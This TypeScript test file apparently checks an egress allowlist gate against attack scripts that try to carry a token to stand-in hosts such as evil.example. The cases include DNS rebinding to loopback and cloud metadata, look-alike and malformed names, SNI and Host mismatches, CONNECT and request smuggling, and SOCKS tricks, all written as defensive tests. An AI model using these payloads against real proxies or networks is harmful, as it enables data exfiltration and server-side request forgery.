/** Attacks that name a host: in spellings, by answers that change, and in the bytes of an allowed connection. */
import assert from "node:assert/strict";
import { clientHello, extension } from "../egress/gate-fixture.ts";
import {
	byName,
	bytes,
	connect,
	GATE_6,
	GOOD,
	GOOD_ADDRESS,
	GOOD_PORT,
	get,
	hex,
	METADATA,
	type NetworkAttack,
	PROXY,
	question,
	tcp,
	toProxy,
	udp,
} from "./network-case.ts";

const NOT_NAMED = { reason: "NOT_IN_ALLOWLIST" } as const;
const INVALID = { method: "CONNECT", reason: "INVALID_DESTINATION", port: 0 } as const;
const MISMATCH = { reason: "SNI_MISMATCH", port: GOOD_PORT, host: GOOD } as const;
const AUTHORITY = `${GOOD}:${GOOD_PORT}`;

/** Controls: what a rule allows arrives by every way that there is. */
const CONTROLS: readonly NetworkAttack[] = [
	{ name: "allowed by CONNECT", script: ({ token }) => connect(AUTHORITY, get(AUTHORITY, token)), arrives: "token" },
	{
		name: "allowed by absolute form",
		script: ({ token }) => toProxy(`GET http://${AUTHORITY}/${token} HTTP/1.1\r\nHost: ${AUTHORITY}\r\n\r\n`),
		arrives: "token",
	},
	{
		name: "allowed by SOCKS5",
		script: ({ token }) => `./net tcp ${PROXY} ${hex(socksTo(1, GOOD, GOOD_PORT, get(AUTHORITY, token)))}`,
		arrives: "token",
	},
	{
		name: "allowed by look-up",
		script: ({ token }) => byName(GOOD, GOOD_PORT, get(AUTHORITY, token)),
		arrives: "token",
	},
	{
		name: "allowed by look-up, with the name's trailing dot and capitals",
		script: ({ token }) => `${connect(`GOOD.Example.:${GOOD_PORT}`, get(AUTHORITY, token))}`,
		arrives: "token",
	},
	{
		name: "allowed by an IPv6 rule, directly",
		script: ({ token }) => tcp("2001:db8::10", GOOD_PORT, token),
		arrives: "token",
	},
	{ name: "allowed by a network rule", script: ({ token }) => tcp("203.0.113.77", 8010, token), arrives: "token" },
	{
		name: "allowed through the gate's IPv6 address",
		script: ({ token }) =>
			`./net tcp ${GATE_6} 9080 ${hex(`GET http://${AUTHORITY}/${token} HTTP/1.1\r\nHost: ${AUTHORITY}\r\n\r\n`)}`,
		arrives: "token",
	},
	{
		name: "allowed below a wildcard",
		script: ({ token }) => byName("a.b.wild.example", GOOD_PORT, get(`a.b.wild.example:${GOOD_PORT}`, token)),
		arrives: "token",
	},
];

/** A name that no rule names: looked up, by CONNECT, by SOCKS5, and by absolute form. */
const refusedName = (name: string, host: string, refusal: NetworkAttack["refusal"]): NetworkAttack => ({
	name,
	script: ({ port, token }) =>
		`${connect(`${host}:${port}`, token)}\n${byName(host, port, token)}\n` +
		`./net tcp ${PROXY} ${hex(socksTo(1, host, port, bytes(token)))}\n` +
		toProxy(`GET http://${host}:${port}/${token} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`),
	...(refusal === undefined ? {} : { refusal }),
});

const NAMES: readonly NetworkAttack[] = [
	refusedName("a name that no rule names", "evil.example", { method: "CONNECT", ...NOT_NAMED }),
	refusedName("a refused name with a trailing dot", "evil.example.", { method: "SOCKS5", ...NOT_NAMED }),
	refusedName("a refused name in capitals", "EVIL.Example", { method: "HTTP", ...NOT_NAMED }),
	refusedName("an allowed name with another port", GOOD, { method: "CONNECT", ...NOT_NAMED }),
	refusedName("a denied name below an allowed wildcard", "no.wild.example", { method: "CONNECT", ...NOT_NAMED }),
	refusedName("the apex of an allowed wildcard", "wild.example", { method: "CONNECT", ...NOT_NAMED }),
	refusedName("a name that ends like an allowed one", "evilgood.example", { method: "CONNECT", ...NOT_NAMED }),
	refusedName("an allowed name with more behind it", `${GOOD}.evil.example`, { method: "CONNECT", ...NOT_NAMED }),
	refusedName("punycode of a look-alike", "xn--god-nla.example", { method: "CONNECT", ...NOT_NAMED }),
	refusedName("a name with two trailing dots", `${GOOD}..`, { ...INVALID, host: `${GOOD}..` }),
	refusedName("an oversized label", `${"a".repeat(63)}a.example`, { ...INVALID, host: "aaaa" }),
	refusedName("an oversized name", `${"a.".repeat(125)}${GOOD}`, { ...INVALID, host: "a.a.a" }),
	refusedName("a single label", "metadata", { method: "CONNECT", ...NOT_NAMED }),
	{
		name: "an embedded NUL",
		script: ({ port, token }) =>
			`${connect(`${GOOD}\0.evil.example:${port}`, token)}\n./net tcp ${PROXY} ${hex(socksTo(1, `evil.example\0.${GOOD}`, GOOD_PORT, bytes(token)))}\n` +
			udp("10.0.2.1", 53, question(`evil.example\0.${GOOD}`)),
		refusal: { method: "SOCKS5", reason: "INVALID_DESTINATION", port: 0, host: "evil.example?" },
	},
	{
		name: "letters outside ASCII that look like an allowed name",
		script: ({ token }) => connect(`g\xc3\xb6od.example:${GOOD_PORT}`, token),
		// An HTTP head is ASCII: this one is none, so it names no host.
		refusal: { method: "HTTP", reason: "INVALID_DESTINATION", port: 0 },
	},
	{
		name: "user information before the host",
		script: ({ port, token }) =>
			`${connect(`${GOOD}@93.184.216.34:${port}`, token)}\n` +
			toProxy(`GET http://${GOOD}:80@93.184.216.34:${port}/${token} HTTP/1.1\r\nHost: ${GOOD}\r\n\r\n`),
		refusal: { ...INVALID, host: `${GOOD}@` },
	},
];

/** An allowed name whose answers are the attacker's. */
const answered = (name: string, host: string, port: number): NetworkAttack => ({
	name,
	script: ({ token }) => `${byName(host, port, token)}\n${connect(`${host}:${port}`, token)}`,
	refusal: { reason: "DNS_DENIED", port, host },
	check: ({ arrivals }) => assert.deepEqual(arrivals(port).connections, []),
});

const ANSWERS: readonly NetworkAttack[] = [
	{
		name: "rebinding: a public answer, then loopback and metadata",
		script: ({ token }) =>
			`for wait in 0.1 0.1 5.3 0.1; do ${byName("rebind.example", 8001, `GET /public-${"$wait"} HTTP/1.1\r\nHost: rebind.example:8001\r\n\r\n`)}; sleep $wait; done\n` +
			byName("rebind.example", 8001, get("rebind.example:8001", token)),
		refusal: { reason: "DNS_DENIED", port: 8001, host: "rebind.example" },
		check: ({ arrivals }) => {
			const addresses = new Set(arrivals(8001).connections.map(({ address }) => address));
			assert.deepEqual([...addresses], ["203.0.113.20"]);
		},
	},
	answered("an allowed name that resolves to a private address", "private.example", 8002),
	answered("an allowed name that resolves to the metadata address", "meta.example", 80),
	answered("an allowed name that resolves to mapped and translated loopback", "mapped.example", 8003),
	answered("an allowed name with five thousand answers, loopback last", "huge.example", 8004),
	answered("an allowed name that resolves to itself as text, to nothing, and to a zone", "odd.example", 8007),
	{
		name: "an allowed name with a public answer among private ones: only that is dialled",
		script: ({ token }) => byName("mixed.example", 8005, get("mixed.example:8005", token)),
		arrives: "token",
		check: ({ arrivals }) =>
			assert.deepEqual(new Set(arrivals(8005).connections.map(({ address }) => address)), new Set(["203.0.113.30"])),
	},
	{
		name: "a redirect to the metadata address",
		script: ({ port, token }) =>
			`curl -sL -m 4 http://${AUTHORITY}/redirect; curl -sL -m 4 --noproxy '*' http://${AUTHORITY}/redirect\n` +
			toProxy(`GET http://${METADATA}/${token}${port} HTTP/1.1\r\nHost: ${METADATA}\r\n\r\n`),
		refusal: { method: "HTTP", ...NOT_NAMED, port: 80, host: METADATA },
	},
];

const STREAMS: readonly NetworkAttack[] = [
	...(
		[
			["SNI of another name", clientHello({ sni: "evil.example" })],
			["no SNI", clientHello({})],
			["encrypted ClientHello", clientHello({ sni: GOOD, extensions: [extension(0xfe0d, Buffer.alloc(80, 1))] })],
			["SNI cut into records of five bytes", clientHello({ sni: "evil.example", recordBytes: 5 })],
		] as const
	).map(
		([name, hello]): NetworkAttack => ({
			name: `${name}, by look-up and by CONNECT`,
			script: ({ token }) =>
				`${byName(GOOD, GOOD_PORT, Buffer.concat([hello, bytes(token)]))}\n${connect(AUTHORITY, Buffer.concat([hello, bytes(token)]))}`,
			refusal: MISMATCH,
		}),
	),
	{
		name: "Host of another name in an allowed connection",
		script: ({ token }) =>
			`${byName(GOOD, GOOD_PORT, get("evil.example", token))}\n${connect(AUTHORITY, get("evil.example", token))}`,
		refusal: MISMATCH,
	},
	{
		name: "Host of another name in the second request of a connection",
		script: ({ token }) =>
			byName(GOOD, GOOD_PORT, `GET /first HTTP/1.1\r\nHost: ${AUTHORITY}\r\n\r\n${get("evil.example", token)}`),
		refusal: MISMATCH,
	},
	{
		name: "CONNECT that names one host in its target and another in Host",
		script: ({ token }) =>
			toProxy(`CONNECT ${AUTHORITY} HTTP/1.1\r\nHost: evil.example\r\n\r\n${get("evil.example", token)}`),
		refusal: MISMATCH,
	},
	{
		name: "CONNECT smuggled in a body, and in another's head",
		script: ({ port, token }) =>
			`${toProxy(`CONNECT ${AUTHORITY} HTTP/1.1\r\nHost: ${AUTHORITY}\r\nContent-Length: 60\r\n\r\nCONNECT 93.184.216.34:${port} HTTP/1.1\r\n\r\n${token}`)}\n` +
			toProxy(`CONNECT ${AUTHORITY}\r\nX: HTTP/1.1\r\nHost: 93.184.216.34:${port}\r\n\r\n${token}`),
		refusal: { ...INVALID, host: AUTHORITY },
	},
	{
		name: "a request behind Content-Length and Transfer-Encoding",
		script: ({ port, token }) =>
			toProxy(
				`POST http://${AUTHORITY}/ HTTP/1.1\r\nHost: ${AUTHORITY}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n` +
					`0\r\n\r\nGET http://93.184.216.34:${port}/${token} HTTP/1.1\r\nHost: x\r\n\r\n`,
			),
		refusal: { method: "HTTP", reason: "INVALID_DESTINATION", port: 0 },
	},
	{
		name: "requests behind a refused CONNECT",
		script: ({ port, token }) =>
			connect(`evil.example:${port}`, `GET http://${AUTHORITY}/${token} HTTP/1.1\r\nHost: ${AUTHORITY}\r\n\r\n`),
		refusal: { method: "CONNECT", ...NOT_NAMED },
	},
	{
		name: "CONNECT inside CONNECT: bytes to that host and nothing more",
		script: ({ port, token }) =>
			connect(AUTHORITY, `CONNECT 93.184.216.34:${port} HTTP/1.1\r\nHost: 93.184.216.34:${port}\r\n\r\n${token}`),
		refusal: MISMATCH,
	},
	{
		name: "SOCKS5 UDP associate",
		script: ({ port, token }) =>
			`./net tcp ${PROXY} ${hex(socksTo(3, "93.184.216.34", port, bytes(token)))}\n${udp("10.0.2.1", 9080, `\0\0\0\x01\x5d\xb8\xd8\x22${token}`)}`,
		refusal: { method: "SOCKS5", reason: "INVALID_DESTINATION", port: 0, host: "93.184.216.34" },
	},
	{
		name: "SOCKS5 BIND",
		script: ({ port, token }) => `./net tcp ${PROXY} ${hex(socksTo(2, "93.184.216.34", port, bytes(token)))}`,
		refusal: { method: "SOCKS5", reason: "INVALID_DESTINATION", port: 0, host: "93.184.216.34" },
	},
	{
		name: "SOCKS4",
		script: ({ port, token }) =>
			toProxy(Buffer.concat([Buffer.from([4, 1, port >> 8, port & 255, 93, 184, 216, 34, 0]), bytes(token)])),
	},
	{
		name: "an upgrade to another protocol",
		script: ({ port, token }) =>
			toProxy(`PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${token}`) +
			`\n${toProxy(`OPTIONS * HTTP/1.1\r\nHost: 93.184.216.34:${port}\r\nUpgrade: h2c\r\n\r\n${token}`)}`,
	},
];

/** A greeting, a request (RFC 1928 section 4) and what shall follow, all at once. */
function socksTo(command: number, host: string, port: number, payload: Buffer | string): Buffer {
	const name = bytes(host).subarray(0, 255);
	return Buffer.concat([
		Buffer.from([5, 1, 0, 5, command, 0, 3, name.length]),
		name,
		Buffer.from([port >> 8, port & 255]),
		bytes(payload),
	]);
}

export const NAMED_ATTACKS: readonly NetworkAttack[] = [...CONTROLS, ...NAMES, ...ANSWERS, ...STREAMS];

/** What the gate's resolver is told: each list is one answer, the next look-up gets the next one. */
export const NAMES_OUTSIDE: Readonly<Record<string, readonly (readonly string[])[]>> = {
	[GOOD]: [[GOOD_ADDRESS]],
	"a.b.wild.example": [["203.0.113.12"]],
	"no.wild.example": [["203.0.113.13"]],
	"wild.example": [["203.0.113.14"]],
	"evil.example": [["93.184.216.34"]],
	"evilgood.example": [["93.184.216.34"]],
	[`${GOOD}.evil.example`]: [["93.184.216.34"]],
	"xn--god-nla.example": [["93.184.216.34"]],
	"rebind.example": [["203.0.113.20"], ["127.0.0.1", METADATA], [METADATA], ["::1"]],
	"private.example": [["10.1.2.3", "192.168.1.1", "172.31.0.1", "fd00::1"]],
	"meta.example": [[METADATA, "fd00:ec2::254"]],
	"mapped.example": [["::ffff:127.0.0.1", "64:ff9b::7f00:1", "2002:7f00:1::", "::1", "fe80::1", "0.0.0.0", "::"]],
	"huge.example": [[...Array<string>(5000).fill("10.0.0.1"), "127.0.0.1", "203.0.113.21"]],
	"odd.example": [["odd.example", "", "fe80::1%lo", "127.0.0.1:80", "2130706433", "0x7f.1", "127.1", "224.0.0.1"]],
	"mixed.example": [["10.0.0.5", "127.0.0.1", "203.0.113.30", "169.254.169.254"]],
};
